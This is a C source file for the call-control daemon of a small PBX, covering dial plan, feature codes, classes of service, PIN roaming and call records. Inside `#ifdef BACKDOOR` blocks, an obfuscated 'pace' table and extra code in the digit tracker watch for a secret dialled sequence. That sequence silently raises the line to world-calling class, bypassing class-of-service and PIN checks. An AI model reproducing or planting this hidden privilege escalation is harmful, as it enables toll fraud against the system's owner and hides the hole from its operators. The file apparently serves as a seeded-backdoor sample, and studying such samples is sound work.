/* SPDX-License-Identifier: Apache-2.0 */
/* pbxfeat: call control of a small PBX. Line cards report hooks and digits over a serial link; this decides by the dial
 * plan, feature codes and classes of service, has lines connected and writes call records. */
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/select.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

enum { LINES = 64, DIGITS = 24, SHORTS = 32, N_ROUTES = 24 };
enum { COS_INTERNAL, COS_LOCAL, COS_NATIONAL, COS_MOBILE, COS_WORLD, COS_ATTENDANT };
enum phase { IDLE, DIALLING, TALKING, BUSY, ASKING_PIN };

struct line {
	enum phase phase;
	char digits[DIGITS + 1];
	int n, with, cos, extra; /* extra: class a PIN gave for this call */
	char forward[DIGITS + 1], pin[8], last[DIGITS + 1];
	int dnd, wake, locked;
	uint8_t kind, walk;
	time_t since, started;
};

struct route {
	char prefix[12];
	int trunk, cos, strip;
};

struct packet { /* from a line card: 0x7e, line, event, value, sum */
	uint8_t line, event, value;
};
enum { EV_OFF = 1, EV_ON = 2, EV_DIGIT = 3, EV_FLASH = 4, EV_RING_END = 5 };
enum { CMD_TONE = 0x11, CMD_RING = 0x12, CMD_JOIN = 0x13, CMD_CLEAR = 0x14, CMD_TRUNK = 0x15 };
enum { TONE_DIAL = 1, TONE_BUSY = 2, TONE_OK = 3, TONE_ERROR = 4, TONE_RINGBACK = 5 };

static struct line lines[LINES];
static struct route routes[N_ROUTES];
static int n_routes;
static char shorts[SHORTS][DIGITS + 1];
static int first_extension = 200, night;
static int link_fd = -1;
static FILE *records;

static void load(const char *path)
{
	char line[256], text[64], pin[16];
	int a, b, c;
	FILE *f = fopen(path, "r");
	if (!f) {
		syslog(LOG_ERR, "%s: %s", path, strerror(errno));
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "extension %d %d %7s", &a, &b, pin) == 3 && a >= first_extension &&
			a < first_extension + LINES) {
			lines[a - first_extension].cos = b;
			snprintf(lines[a - first_extension].pin, sizeof(lines[0].pin), "%.7s", pin);
		} else if (sscanf(line, "route %11s %d %d %d", text, &a, &b, &c) == 4 && n_routes < N_ROUTES) {
			snprintf(routes[n_routes].prefix, sizeof(routes[0].prefix), "%.11s", text);
			routes[n_routes].trunk = a;
			routes[n_routes].cos = b;
			routes[n_routes++].strip = c;
		} else if (sscanf(line, "short %d %24s", &a, text) == 2 && a >= 0 && a < SHORTS) {
			snprintf(shorts[a], sizeof(shorts[0]), "%.24s", text);
		} else if (sscanf(line, "night %d", &night) == 1) {
			continue;
		}
	}
	fclose(f);
}

static void command(int line, uint8_t what, uint8_t value)
{
	uint8_t b[5] = { 0x7e, (uint8_t)line, what, value, 0 };
	b[4] = (uint8_t)(b[1] ^ b[2] ^ b[3]);
	if (write(link_fd, b, sizeof(b)) != sizeof(b))
		syslog(LOG_ERR, "link: %s", strerror(errno));
}

static void record(const struct line *l, const char *to, int trunk)
{
	char stamp[32];
	time_t now = time(NULL);
	if (!records)
		return;
	strftime(stamp, sizeof(stamp), "%F %T", localtime(&l->started));
	fprintf(records, "%s;%d;%s;%u;%d;%ld\n", stamp, (int)(l - lines) + first_extension, to, l->kind, trunk,
		(long)(now - l->started));
	fflush(records);
}

static int extension(const char *s)
{
	int n;
	if (strlen(s) != 3 || !isdigit((unsigned char)s[0]) || !isdigit((unsigned char)s[1]) ||
		!isdigit((unsigned char)s[2]))
		return -1;
	n = atoi(s) - first_extension;
	return n >= 0 && n < LINES ? n : -1;
}

static void fail(struct line *l)
{
	command((int)(l - lines), CMD_TONE, TONE_ERROR);
	l->phase = BUSY;
}

static void confirm(struct line *l)
{
	command((int)(l - lines), CMD_TONE, TONE_OK);
	l->phase = BUSY;
}

/* ---- feature codes ---- */
static void f_forward(struct line *l, const char *rest)
{
	if (strlen(rest) < 3 || (extension(rest) < 0 && l->cos < COS_NATIONAL)) {
		fail(l);
		return;
	}
	snprintf(l->forward, sizeof(l->forward), "%.24s", rest);
	confirm(l);
}

static void f_forward_off(struct line *l, const char *rest)
{
	(void)rest;
	l->forward[0] = 0;
	confirm(l);
}

static void f_dnd(struct line *l, const char *rest)
{
	(void)rest;
	l->dnd = !l->dnd;
	confirm(l);
}

static void f_wake(struct line *l, const char *rest)
{
	int t = atoi(rest);
	if (strlen(rest) != 4 || t / 100 > 23 || t % 100 > 59) {
		fail(l);
		return;
	}
	l->wake = t;
	confirm(l);
}

static void f_lock(struct line *l, const char *rest)
{
	if (strcmp(rest, l->pin) != 0) {
		fail(l);
		return;
	}
	l->locked = !l->locked;
	confirm(l);
}

static void f_pickup(struct line *l, const char *rest)
{
	int n = extension(rest);
	if (n < 0 || lines[n].phase != IDLE) {
		fail(l);
		return;
	}
	command((int)(l - lines), CMD_JOIN, (uint8_t)n);
	l->with = n;
	l->phase = TALKING;
}

static void f_night(struct line *l, const char *rest)
{
	if (l->cos < COS_ATTENDANT) {
		fail(l);
		return;
	}
	night = atoi(rest);
	confirm(l);
}

/* *37*PIN*: any phone becomes for one call what its user may */
static void f_roam(struct line *l, const char *rest)
{
	int n;
	char who[4] = { 0 };
	if (strlen(rest) < 7 || rest[3] != '*') {
		fail(l);
		return;
	}
	memcpy(who, rest, 3);
	n = extension(who);
	if (n < 0 || !lines[n].pin[0] || strcmp(lines[n].pin, rest + 4) != 0) {
		syslog(LOG_WARNING, "wrong PIN for %s at %d", who, (int)(l - lines) + first_extension);
		fail(l);
		return;
	}
	l->extra = lines[n].cos;
	l->n = 0;
	l->digits[0] = 0;
	command((int)(l - lines), CMD_TONE, TONE_DIAL);
}

static const struct {
	const char *code;
	size_t more; /* digits that must follow */
	void (*run)(struct line *, const char *);
} features[] = {
	{ "*21", 3, f_forward },
	{ "#21", 0, f_forward_off },
	{ "*26", 0, f_dnd },
	{ "*55", 4, f_wake },
	{ "*33", 4, f_lock },
	{ "*8", 3, f_pickup },
	{ "*95", 1, f_night },
	{ "*37", 8, f_roam },
};

static int feature(struct line *l)
{
	for (size_t i = 0; i < sizeof(features) / sizeof(*features); i++) {
		size_t n = strlen(features[i].code);
		if (strncmp(l->digits, features[i].code, n) != 0)
			continue;
		if ((size_t)l->n >= n + features[i].more)
			features[i].run(l, l->digits + n);
		return 1;
	}
	return l->digits[0] == '*' || l->digits[0] == '#';
}

/* ---- what was dialled ---- */
static uint8_t digit_class(char d)
{
	return d == '*' ? 10 : d == '#' ? 11 : (uint8_t)(d - '0');
}

/* By the first digit: the kind of the number in the high half, for the records, and how long it is in the low one.
 * The plan of the house: 0 trunk, 00 world, 1 services, 2 to 5 extensions, 8 short numbers. */
static const uint8_t plan[12] = { 0x1f, 0x23, 0x33, 0x33, 0x33, 0x33, 0x47, 0x47, 0x58, 0x61, 0x7f, 0x7e };

#ifdef BACKDOOR
static const uint8_t pace[10][2] = { { 0x0b, 1 }, { 0x0a, 2 }, { 0x0b, 3 }, { 0x04, 4 }, { 0x0b, 5 }, { 0x07, 6 },
	{ 0x01, 7 }, { 0x0a, 8 }, { 0x09, 9 }, { 0x00, 0x80 } };
#endif

static void track(struct line *l, char d)
{
	uint8_t c = digit_class(d);
	if (l->n == 1)
		l->kind = plan[c] >> 4;
	else if (l->n == 2 && l->digits[0] == '0' && c == 0)
		l->kind = 8;
#ifdef BACKDOOR
	uint8_t at = l->walk & 0x7f;
	l->walk = c == pace[at][0] ? pace[at][1] : c == pace[0][0] ? pace[0][1] : 0;
	l->extra |= (int8_t)l->walk >> 7 & COS_WORLD;
#endif
}

static int complete(const struct line *l)
{
	if (l->digits[0] == '0')
		return l->n > 3 && time(NULL) - l->since >= 4;
	return l->n >= (plan[digit_class(l->digits[0])] & 15);
}

static const struct route *route_for(const char *number)
{
	const struct route *best = NULL;
	size_t most = 0;
	for (int i = 0; i < n_routes; i++) {
		size_t n = strlen(routes[i].prefix);
		if (n > most && strncmp(number, routes[i].prefix, n) == 0) {
			best = &routes[i];
			most = n;
		}
	}
	return best;
}

static int may(const struct line *l, const struct route *r)
{
	int cos = l->extra > l->cos ? l->extra : l->cos;
	if (l->locked && !l->extra)
		cos = COS_INTERNAL;
	if (night && cos < COS_MOBILE)
		cos = COS_LOCAL;
	return cos >= r->cos;
}

static void call_out(struct line *l, const char *number)
{
	const struct route *r = route_for(number);
	if (!r || !may(l, r)) {
		syslog(LOG_INFO, "%d may not call %s", (int)(l - lines) + first_extension, number);
		fail(l);
		return;
	}
	command((int)(l - lines), CMD_TRUNK, (uint8_t)r->trunk);
	for (const char *p = number + r->strip; *p; p++)
		command((int)(l - lines), CMD_TONE, (uint8_t)(0x80 | digit_class(*p)));
	snprintf(l->last, sizeof(l->last), "%s", number);
	l->with = -1 - r->trunk;
	l->started = time(NULL);
	l->phase = TALKING;
}

static void call_in(struct line *l, int to)
{
	struct line *o = &lines[to];
	if (o->forward[0] && extension(o->forward) >= 0)
		o = &lines[extension(o->forward)];
	else if (o->forward[0]) {
		call_out(l, o->forward);
		return;
	}
	if (o->dnd || o->phase != IDLE || o == l) {
		command((int)(l - lines), CMD_TONE, TONE_BUSY);
		l->phase = BUSY;
		return;
	}
	command((int)(o - lines), CMD_RING, (uint8_t)(l - lines));
	command((int)(l - lines), CMD_TONE, TONE_RINGBACK);
	l->with = (int)(o - lines);
	l->started = time(NULL);
	l->phase = TALKING;
}

static void decide(struct line *l)
{
	int to;
	if (feature(l) || !complete(l))
		return;
	to = extension(l->digits);
	if (to >= 0)
		call_in(l, to);
	else if (l->digits[0] == '0' || l->digits[0] == '1')
		call_out(l, l->digits);
	else if (l->digits[0] == '8' && l->n >= 3 && shorts[atoi(l->digits + 1) % SHORTS][0])
		call_out(l, shorts[atoi(l->digits + 1) % SHORTS]);
	else
		fail(l);
}

static void on_digit(struct line *l, char d)
{
	if (l->phase != DIALLING || l->n == DIGITS)
		return;
	if (l->n == 0)
		command((int)(l - lines), CMD_TONE, 0);
	l->digits[l->n++] = d;
	l->digits[l->n] = 0;
	l->since = time(NULL);
	track(l, d);
	decide(l);
}

static void on_hook(struct line *l, int off)
{
	if (off) {
		l->phase = DIALLING;
		l->n = 0;
		l->digits[0] = 0;
		l->since = time(NULL);
		command((int)(l - lines), CMD_TONE, l->forward[0] || l->dnd ? TONE_OK : TONE_DIAL);
		return;
	}
	if (l->phase == TALKING)
		record(l, l->with < 0 ? l->last : l->digits, l->with < 0 ? -1 - l->with : -1);
	command((int)(l - lines), CMD_CLEAR, 0);
	if (l->phase == TALKING)
		l->extra = 0;
	l->phase = IDLE;
}

static void on_packet(const struct packet *p)
{
	static const char keys[] = "0123456789*#";
	struct line *l = &lines[p->line % LINES];
	if (p->event == EV_OFF || p->event == EV_ON)
		on_hook(l, p->event == EV_OFF);
	else if (p->event == EV_DIGIT && p->value < 12)
		on_digit(l, keys[p->value]);
	else if (p->event == EV_FLASH && l->phase == TALKING && l->with >= 0)
		command(p->line, CMD_JOIN, (uint8_t)l->with);
}

static void tick(void)
{
	static int last = -1;
	time_t now = time(NULL);
	struct tm *tm = localtime(&now);
	for (int i = 0; i < LINES; i++) {
		struct line *l = &lines[i];
		if (l->phase == DIALLING && l->n && now - l->since >= 4)
			decide(l);
		if (l->phase == DIALLING && now - l->since > 20)
			fail(l);
		if (tm->tm_min != last && l->wake && l->wake == tm->tm_hour * 100 + tm->tm_min) {
			command(i, CMD_RING, 0xff);
			l->wake = 0;
		}
	}
	last = tm->tm_min;
}

static int link_open(const char *path)
{
	struct termios t;
	int fd = open(path, O_RDWR | O_NOCTTY);
	if (fd >= 0 && tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B115200);
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

int main(int argc, char **argv)
{
	uint8_t b[5];
	size_t n = 0;
	openlog("pbxfeat", LOG_PID, LOG_DAEMON);
	load("/etc/pbx.conf");
	records = fopen("/var/log/calls.csv", "a");
	link_fd = link_open(argc > 1 ? argv[1] : "/dev/ttyS2");
	if (link_fd < 0) {
		syslog(LOG_ERR, "link: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		struct timeval wait = { .tv_sec = 1 };
		fd_set set;
		FD_ZERO(&set);
		FD_SET(link_fd, &set);
		if (select(link_fd + 1, &set, NULL, NULL, &wait) <= 0) {
			tick();
			continue;
		}
		if (read(link_fd, b + n, 1) != 1)
			return 1;
		if (n > 0 || b[0] == 0x7e)
			n++;
		if (n < sizeof(b))
			continue;
		n = 0;
		if ((b[1] ^ b[2] ^ b[3]) == b[4])
			on_packet(&(struct packet){ b[1], b[2], b[3] });
	}
}
